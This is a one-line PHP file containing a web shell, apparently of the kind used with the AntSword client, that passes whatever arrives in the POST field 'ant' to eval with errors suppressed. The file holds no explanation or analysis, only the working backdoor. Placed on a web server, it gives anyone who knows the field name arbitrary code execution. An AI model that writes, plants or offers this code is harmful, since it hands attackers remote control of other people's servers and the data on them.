<?php @eval($_POST['ant']);?>
